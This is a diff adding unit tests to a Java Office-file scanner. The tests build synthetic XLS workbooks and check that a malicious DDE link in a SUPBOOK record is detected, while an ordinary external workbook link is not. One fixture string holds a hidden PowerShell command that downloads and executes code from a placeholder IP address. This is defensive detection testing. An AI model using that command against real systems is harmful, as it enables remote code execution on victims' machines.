@@ -177,6 +177,58 @@ class DdeAnalyzerTest {
         assertEquals(Severity.HIGH, ReportChecks.only(report, "dde.formula").severity());
     }
 
+    @Test
+    void anXlsDdeLinkInASupbookRecordIsFound() {
+        byte[] xls = OfficeFixtures.ole2(root -> root.createDocument("Workbook", new java.io.ByteArrayInputStream(biff(
+                record(0x0809, new byte[16]),
+                record(0x01AE, supbook("cmd\u0003/c powershell -nop -w hidden -c iex(iwr http://192.0.2.4/a)")),
+                record(0x01AE, new byte[] {1, 0, 1, 4}),
+                record(0x000A, new byte[0])))));
+
+        Report report = TestEngines.scanFile("book.xls", xls);
+
+        Finding link = ReportChecks.only(report, "dde.link");
+        assertEquals("cmd", link.evidence().get("service"));
+        assertTrue(((String) link.evidence().get("topic")).startsWith("/c powershell"));
+    }
+
+    @Test
+    void anXlsWithAnOrdinaryExternalWorkbookHasNoDde() {
+        byte[] xls = OfficeFixtures.ole2(root -> root.createDocument("Workbook", new java.io.ByteArrayInputStream(biff(
+                record(0x0809, new byte[16]),
+                record(0x01AE, supbook("\u0001\u0001C\u0003budget.xls")),
+                record(0x000A, new byte[0])))));
+
+        assertTrue(ReportChecks.withCode(TestEngines.scanFile("book.xls", xls), "dde.link").isEmpty());
+    }
+
+    private static byte[] supbook(String path) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.write(1);
+        out.write(0);
+        out.write(path.length() & 0xff);
+        out.write(path.length() >> 8);
+        out.write(0);
+        out.writeBytes(path.getBytes(StandardCharsets.ISO_8859_1));
+        return out.toByteArray();
+    }
+
+    private static byte[] record(int sid, byte[] body) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        out.write(sid & 0xff);
+        out.write(sid >> 8);
+        out.write(body.length & 0xff);
+        out.write(body.length >> 8);
+        out.writeBytes(body);
+        return out.toByteArray();
+    }
+
+    private static byte[] biff(byte[]... records) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        for (byte[] r : records) out.writeBytes(r);
+        return out.toByteArray();
+    }
+
     interface ParagraphEdit {
         void apply(XWPFParagraph p);
     }
